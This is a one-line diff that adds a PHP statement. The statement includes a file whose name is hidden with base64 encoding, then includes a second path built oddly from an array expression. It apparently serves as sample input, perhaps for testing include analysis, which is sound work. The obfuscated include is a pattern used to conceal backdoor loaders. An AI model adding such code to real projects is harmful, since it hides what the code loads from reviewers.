@@ -1,0 +1,1 @@
+<?php include 'pages/' . base64_decode('YS5waHA='); include 'a/' . [A & B];
